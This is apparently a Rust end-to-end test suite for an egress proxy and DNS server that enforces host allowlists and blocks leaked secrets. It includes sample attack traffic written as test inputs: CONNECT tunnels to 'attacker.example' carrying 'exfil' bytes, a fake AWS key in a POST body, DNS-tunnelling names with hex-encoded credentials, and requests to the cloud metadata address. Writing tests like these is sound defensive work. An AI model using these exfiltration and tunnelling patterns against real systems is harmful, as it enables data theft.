//! End-to-end tests of the egress proxy and DNS server over real sockets on 127.0.0.1.

mod common;

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::Ordering;
use std::time::Duration;

use common::*;
use hickory_proto::op::{Message, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, RecordType};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};
use warden_egress::*;

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[tokio::test]
async fn connect_to_allowed_name_is_relayed_and_counted() {
    let h = harness(Options::default()).await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(b"CONNECT echo.internal:443 HTTP/1.1\r\nHost: echo.internal:443\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 39];
    s.read_exact(&mut buf).await.unwrap();
    assert!(text(&buf).starts_with("HTTP/1.1 200"), "{}", text(&buf));
    s.write_all(b"hello").await.unwrap();
    let mut back = [0u8; 5];
    s.read_exact(&mut back).await.unwrap();
    assert_eq!(&back, b"hello");
    drop(s);
    let e = wait_event(&h.collector, |e| e.name.as_deref() == Some("echo.internal")).await;
    assert_eq!(e.decision, Decision::Allow);
    assert_eq!(e.kind, EventKind::Tcp);
    assert_eq!(e.protocol.as_deref(), Some("connect"));
    assert_eq!(e.port, Some(443));
    assert_eq!(e.address.as_deref(), Some("127.0.0.1"));
    assert_eq!((e.bytes_sent, e.bytes_received), (5, 5));
    assert_eq!(e.invocation_id.as_deref(), Some(INV));
    assert_eq!(e.observation, Observation::Isolated);
    // Stable camelCase wire names.
    let j = serde_json::to_value(&e).unwrap();
    for k in [
        "invocationId",
        "bytesSent",
        "bytesReceived",
        "httpHost",
        "observation",
    ] {
        assert!(j.get(k).is_some(), "{k} missing in {j}");
    }
    assert_eq!(j["decision"], "allow");
}

#[tokio::test]
async fn absolute_uri_http_is_forwarded_scanned_and_recorded() {
    let h = harness(Options::default()).await;
    let req = b"POST http://api.internal/upload?x=1 HTTP/1.1\r\nHost: api.internal\r\nProxy-Connection: keep-alive\r\nContent-Length: 5\r\n\r\nhello";
    let out = roundtrip(h.proxy, req).await.unwrap();
    let out = text(&out);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(out.ends_with("ok POST /upload?x=1 5"), "{out}");
    let e = wait_event(&h.collector, |e| e.kind == EventKind::Http).await;
    assert_eq!(e.decision, Decision::Allow);
    assert_eq!(e.name.as_deref(), Some("api.internal"));
    assert_eq!(e.http_method.as_deref(), Some("POST"));
    assert_eq!(e.http_path.as_deref(), Some("/upload?x=1"));
    assert_eq!(e.http_host.as_deref(), Some("api.internal"));
    assert!(e.bytes_sent > 5 && e.bytes_received as usize == out.len());
    assert_eq!(
        h.scanner.seen.lock().unwrap().as_slice(),
        &[b"hello".to_vec()]
    );
}

#[tokio::test]
async fn dlp_blocking_finding_stops_request_in_enforce() {
    let h = harness(Options::default()).await;
    let req = b"POST http://api.internal/x HTTP/1.1\r\nHost: api.internal\r\nContent-Length: 24\r\n\r\nkey=AKIAABCDEFGHIJKLMNOP";
    let out = text(&roundtrip(h.proxy, req).await.unwrap());
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(out.contains("X-Warden-Reason: payload_blocked"));
    let e = wait_event(&h.collector, |e| e.reason == Some(Reason::PayloadBlocked)).await;
    assert_eq!(e.decision, Decision::Deny);
    assert_eq!(e.findings[0].rule_id, "secret.aws_access_key");
    assert_eq!(
        h.http_hits.load(Ordering::SeqCst),
        0,
        "upstream must not be dialed"
    );
}

#[tokio::test]
async fn dlp_blocking_finding_is_reported_in_report_mode() {
    let h = harness(Options {
        mode: Mode::Report,
        ..Options::default()
    })
    .await;
    let req = b"POST http://api.internal/x HTTP/1.1\r\nHost: api.internal\r\nContent-Length: 24\r\n\r\nkey=AKIAABCDEFGHIJKLMNOP";
    let out = text(&roundtrip(h.proxy, req).await.unwrap());
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    let e = wait_event(&h.collector, |e| e.kind == EventKind::Http).await;
    assert_eq!(e.decision, Decision::Report);
    assert_eq!(e.reason, Some(Reason::PayloadBlocked));
}

#[tokio::test]
async fn undeclared_connect_is_refused_in_enforce() {
    let h = harness(Options::default()).await;
    let out = text(
        &roundtrip(h.proxy, b"CONNECT attacker.example:443 HTTP/1.1\r\n\r\n")
            .await
            .unwrap(),
    );
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(out.contains("X-Warden-Reason: undeclared_host"));
    let e = wait_event(&h.collector, |e| e.decision == Decision::Deny).await;
    assert_eq!(e.reason, Some(Reason::UndeclaredHost));
    assert_eq!(e.name.as_deref(), Some("attacker.example"));
    assert_eq!(h.echo_hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn undeclared_sni_is_reset_in_enforce_without_dialing() {
    let h = harness(Options {
        original_dst: Some("203.0.113.7:443".parse().unwrap()),
        ..Options::default()
    })
    .await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(&client_hello("attacker.example"))
        .await
        .unwrap();
    let mut buf = [0u8; 16];
    let r = tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf))
        .await
        .unwrap();
    assert_eq!(
        r.map_err(|e| e.kind()).err(),
        Some(std::io::ErrorKind::ConnectionReset)
    );
    let e = wait_event(&h.collector, |e| e.decision == Decision::Deny).await;
    assert_eq!(e.reason, Some(Reason::UndeclaredHost));
    assert_eq!(e.sni.as_deref(), Some("attacker.example"));
    assert_eq!(e.protocol.as_deref(), Some("tls"));
    assert_eq!(h.echo_hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn undeclared_name_passes_in_report_mode_and_is_recorded() {
    let h = harness(Options {
        mode: Mode::Report,
        ..Options::default()
    })
    .await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(b"CONNECT attacker.example:443 HTTP/1.1\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 39];
    s.read_exact(&mut buf).await.unwrap();
    s.write_all(b"exfil").await.unwrap();
    let mut back = [0u8; 5];
    s.read_exact(&mut back).await.unwrap();
    drop(s);
    let e = wait_event(&h.collector, |e| {
        e.name.as_deref() == Some("attacker.example")
    })
    .await;
    assert_eq!(e.decision, Decision::Report);
    assert_eq!(e.reason, Some(Reason::UndeclaredHost));
    assert_eq!(e.bytes_sent, 5);
}

#[tokio::test]
async fn transparent_tls_dials_resolved_name_not_client_address() {
    // The client "dialed" 203.0.113.7 (unreachable here); the proxy resolves the SNI itself.
    let h = harness(Options {
        original_dst: Some("203.0.113.7:443".parse().unwrap()),
        ..Options::default()
    })
    .await;
    let hello = client_hello("echo.internal");
    assert_eq!(
        sni::parse_client_hello(&hello),
        sni::SniParse::ClientHello {
            sni: Some("echo.internal".into())
        }
    );
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(&hello).await.unwrap();
    let mut back = vec![0u8; hello.len()];
    s.read_exact(&mut back).await.unwrap();
    assert_eq!(back, hello);
    drop(s);
    let e = wait_event(&h.collector, |e| e.sni.is_some()).await;
    assert_eq!(e.decision, Decision::Allow);
    assert_eq!(e.name.as_deref(), Some("echo.internal"));
    assert_eq!(e.address.as_deref(), Some("127.0.0.1"));
    assert_eq!(e.bytes_sent as usize, hello.len());
}

fn dns_query(id: u16, name: &str, t: RecordType) -> Vec<u8> {
    let mut m = Message::query();
    m.metadata.id = id;
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), t));
    m.to_vec().unwrap()
}

async fn ask(dns: SocketAddr, name: &str, t: RecordType) -> Option<Message> {
    let s = UdpSocket::bind(LOCAL).await.unwrap();
    s.send_to(&dns_query(7, name, t), dns).await.unwrap();
    let mut buf = [0u8; 2048];
    match tokio::time::timeout(Duration::from_millis(400), s.recv(&mut buf)).await {
        Ok(Ok(n)) => Some(Message::from_vec(&buf[..n]).unwrap()),
        _ => None,
    }
}

#[tokio::test]
async fn dns_answers_allowed_and_refuses_undeclared_then_connection_is_named() {
    let pool = SyntheticPool::default();
    let synth = pool.address_for("api.internal").unwrap();
    let h = harness(Options {
        synthetic: pool,
        original_dst: Some(SocketAddr::new(IpAddr::V4(synth), 80)),
        ..Options::default()
    })
    .await;
    let r = ask(h.dns, "api.internal.", RecordType::A).await.unwrap();
    assert_eq!(r.metadata.id, 7);
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    let RData::A(a) = &r.answers[0].data else {
        panic!("not A")
    };
    assert_eq!(a.0, synth);
    let r = ask(h.dns, "api.internal.", RecordType::AAAA).await.unwrap();
    assert!(r.answers.is_empty());
    let r = ask(h.dns, "attacker.example.", RecordType::A)
        .await
        .unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);

    let evs = h.collector.snapshot();
    let dns: Vec<_> = evs.iter().filter(|e| e.kind == EventKind::Dns).collect();
    assert_eq!(dns.len(), 3);
    assert_eq!(dns[0].decision, Decision::Allow);
    assert_eq!(dns[0].address.as_deref(), Some(synth.to_string().as_str()));
    assert_eq!(dns[0].protocol.as_deref(), Some("A"));
    assert_eq!(dns[2].decision, Decision::Deny);
    assert_eq!(dns[2].reason, Some(Reason::UndeclaredHost));

    // The tool now connects to the synthetic address; the proxy maps it back to the name.
    let out = text(
        &roundtrip(
            h.proxy,
            b"GET /from-dns HTTP/1.1\r\nHost: api.internal\r\n\r\n",
        )
        .await
        .unwrap(),
    );
    assert!(out.ends_with("ok GET /from-dns 0"), "{out}");
    let e = wait_event(&h.collector, |e| e.kind == EventKind::Http).await;
    assert_eq!(e.name.as_deref(), Some("api.internal"));
    assert_eq!(e.decision, Decision::Allow);
    assert_eq!(e.port, Some(80));
}

#[tokio::test]
async fn dns_report_mode_answers_undeclared() {
    let h = harness(Options {
        mode: Mode::Report,
        ..Options::default()
    })
    .await;
    let r = ask(h.dns, "attacker.example.", RecordType::A)
        .await
        .unwrap();
    assert_eq!(r.answers.len(), 1);
    let e = wait_event(&h.collector, |e| e.kind == EventKind::Dns).await;
    assert_eq!(e.decision, Decision::Report);
    assert_eq!(e.reason, Some(Reason::UndeclaredHost));
}

#[tokio::test]
async fn dns_tunnelling_is_flagged() {
    let h = harness(Options {
        allow: vec!["*.tunnel.test"],
        limits: Limits {
            dns_max_unique_names: 5,
            ..Options::default().limits
        },
        ..Options::default()
    })
    .await;
    let long = format!("{}.tunnel.test.", "a".repeat(50));
    let r = ask(h.dns, &long, RecordType::A).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);
    let hex = "4a6f686e3a70617373776f72643a3132.tunnel.test.";
    let r = ask(h.dns, hex, RecordType::TXT).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);
    for i in 0..5 {
        let r = ask(h.dns, &format!("n{i}.tunnel.test."), RecordType::A)
            .await
            .unwrap();
        // Names 1..=3 of the allowed set are fine; the set limit (5) trips on the 6th name.
        if i < 3 {
            assert_eq!(r.metadata.response_code, ResponseCode::NoError, "n{i}");
        } else {
            assert_eq!(r.metadata.response_code, ResponseCode::Refused, "n{i}");
        }
    }
    let tunnel = h
        .collector
        .take(INV)
        .into_iter()
        .filter(|e| e.reason == Some(Reason::DnsTunnel))
        .count();
    assert_eq!(tunnel, 4);
}

#[tokio::test]
async fn bare_ip_internal_destinations_are_denied_without_dialing() {
    let h = harness(Options::default()).await;
    let out = text(
        &roundtrip(h.proxy, b"CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n")
            .await
            .unwrap(),
    );
    assert!(out.contains("X-Warden-Reason: metadata_address"), "{out}");
    let out = text(
        &roundtrip(
            h.proxy,
            b"GET http://10.1.2.3/latest HTTP/1.1\r\nHost: 10.1.2.3\r\n\r\n",
        )
        .await
        .unwrap(),
    );
    assert!(out.contains("X-Warden-Reason: private_address"), "{out}");
    let connect_loop = format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", h.echo.port());
    let out = text(&roundtrip(h.proxy, connect_loop.as_bytes()).await.unwrap());
    assert!(out.contains("X-Warden-Reason: loopback_address"), "{out}");
    let self_loop = format!(
        "CONNECT [::ffff:127.0.0.1]:{} HTTP/1.1\r\n\r\n",
        h.proxy.port()
    );
    let out = text(&roundtrip(h.proxy, self_loop.as_bytes()).await.unwrap());
    assert!(out.contains("X-Warden-Reason: self_address"), "{out}");
    let evs = h.collector.take(INV);
    let reasons: Vec<_> = evs.iter().map(|e| e.reason).collect();
    assert_eq!(
        reasons,
        vec![
            Some(Reason::MetadataAddress),
            Some(Reason::PrivateAddress),
            Some(Reason::LoopbackAddress),
            Some(Reason::SelfAddress)
        ]
    );
    assert!(evs.iter().all(|e| e.decision == Decision::Deny));
    assert_eq!(h.echo_hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn transparent_bare_ip_is_reset_and_reported() {
    let (echo, _) = echo_upstream().await;
    let h = harness(Options {
        original_dst: Some(echo),
        ..Options::default()
    })
    .await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(b"\x00\x01raw").await.unwrap();
    let mut buf = [0u8; 8];
    let r = tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf))
        .await
        .unwrap();
    assert!(r.is_err() || r.unwrap() == 0);
    let e = wait_event(&h.collector, |e| e.decision == Decision::Deny).await;
    assert_eq!(e.reason, Some(Reason::LoopbackAddress));
    assert_eq!(e.name, None);
    assert_eq!(e.protocol.as_deref(), Some("unknown"));
    assert_eq!(e.address.as_deref(), Some("127.0.0.1"));
}

#[tokio::test]
async fn bare_public_ip_is_a_finding() {
    let h = harness(Options {
        original_dst: Some("93.184.216.34:22".parse().unwrap()),
        ..Options::default()
    })
    .await;
    // Server-speaks-first client: sends nothing; decided after the peek timeout.
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    let mut buf = [0u8; 8];
    let _ = tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf))
        .await
        .unwrap();
    let e = wait_event(&h.collector, |e| e.decision == Decision::Deny).await;
    assert_eq!(e.reason, Some(Reason::BareIp));
}

#[tokio::test]
async fn unattributed_traffic_is_dropped_and_reported() {
    let h = harness(Options {
        attribute: false,
        ..Options::default()
    })
    .await;
    let r = roundtrip(h.proxy, b"CONNECT echo.internal:443 HTTP/1.1\r\n\r\n").await;
    assert!(r.is_err() || r.as_ref().unwrap().is_empty(), "{r:?}");
    assert!(ask(h.dns, "api.internal.", RecordType::A).await.is_none());
    let evs = h.collector.take_unattributed();
    assert_eq!(evs.len(), 2, "{evs:#?}");
    assert!(evs
        .iter()
        .all(|e| e.reason == Some(Reason::Unattributed) && e.decision == Decision::Deny));
    assert_eq!(evs[1].kind, EventKind::Dns);
    assert_eq!(evs[1].name.as_deref(), Some("api.internal"));
    assert_eq!(h.echo_hits.load(Ordering::SeqCst), 0);
    // Registering the source makes the same traffic attributable.
    h.table.register(
        Ipv4Addr::LOCALHOST.into(),
        InvocationContext {
            invocation_id: "inv-2".into(),
            tool: "t".into(),
            tenant: "x".into(),
            allowlist: Allowlist::parse(["api.internal"]).unwrap(),
            mode: Mode::Enforce,
            observation: Observation::Cooperative,
        },
    );
    assert!(ask(h.dns, "api.internal.", RecordType::A).await.is_some());
    assert_eq!(
        h.collector.take("inv-2")[0].observation,
        Observation::Cooperative
    );
}

#[tokio::test]
async fn malformed_inputs_get_clean_refusals() {
    let h = harness(Options::default()).await;
    for bad in [
        &b"GET / HTTP/1.1\r\nHost: bad host\r\n\r\n"[..],
        b"CONNECT nohostport HTTP/1.1\r\n\r\n",
        b"GET /relative HTTP/1.1\r\nHost: api.internal\r\n\r\n",
        b"POST http://api.internal/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
    ] {
        let out = text(&roundtrip(h.proxy, bad).await.unwrap());
        assert!(out.starts_with("HTTP/1.1 400"), "{out}");
    }
    // Garbage that is neither HTTP nor TLS on the cooperative listener: reset/close.
    for bad in [
        &b"\x16\x03\x01\x00\x05\x01\x00\x00\x09\x09"[..],
        b"\xff\xfe garbage",
    ] {
        let r = roundtrip(h.proxy, bad).await;
        assert!(r.is_err() || r.unwrap().is_empty());
    }
    // Pseudo-random junk at the proxy and the DNS server: nothing panics, both keep serving.
    let mut x: u64 = 0x9e3779b97f4a7c15;
    let udp = UdpSocket::bind(LOCAL).await.unwrap();
    for i in 0..40 {
        let junk: Vec<u8> = (0..(i * 7 % 300 + 1))
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x as u8
            })
            .collect();
        let _ = roundtrip(h.proxy, &junk).await;
        udp.send_to(&junk, h.dns).await.unwrap();
    }
    let out = text(
        &roundtrip(
            h.proxy,
            b"GET http://api.internal/still HTTP/1.1\r\nHost: api.internal\r\n\r\n",
        )
        .await
        .unwrap(),
    );
    assert!(out.ends_with("ok GET /still 0"), "{out}");
    assert!(ask(h.dns, "api.internal.", RecordType::A).await.is_some());
}

#[tokio::test]
async fn transparent_garbage_client_hello_is_reset() {
    let h = harness(Options {
        original_dst: Some("203.0.113.7:443".parse().unwrap()),
        ..Options::default()
    })
    .await;
    let r = roundtrip(h.proxy, b"\x16\x03\x01\x00\x05\x01\x00\xff\xff\xff").await;
    assert!(r.is_err() || r.unwrap().is_empty());
    let e = wait_event(&h.collector, |e| e.decision == Decision::Deny).await;
    assert_eq!(e.reason, Some(Reason::MalformedRequest));
}

#[tokio::test]
async fn channel_sink_delivers_events() {
    let (tx, mut rx) = tokio::sync::mpsc::channel(4);
    let sink = ChannelSink::new(tx);
    let c = Collector::default();
    let fan = FanoutSink(vec![
        std::sync::Arc::new(sink),
        std::sync::Arc::new(c.clone()),
    ]);
    let table = AttributionTable::new();
    let egress = Egress::builder(std::sync::Arc::new(table), std::sync::Arc::new(fan))
        .original_dst(std::sync::Arc::new(NoOriginalDst))
        .build();
    let p = ProxyServer::bind(&egress, LOCAL.parse().unwrap())
        .await
        .unwrap();
    let addr = p.local_addr().unwrap();
    p.spawn();
    let _ = roundtrip(addr, b"CONNECT a.test:1 HTTP/1.1\r\n\r\n").await;
    let e = tokio::time::timeout(Duration::from_secs(2), rx.recv())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(e.reason, Some(Reason::Unattributed));
    assert_eq!(c.take_unattributed().len(), 1);
}
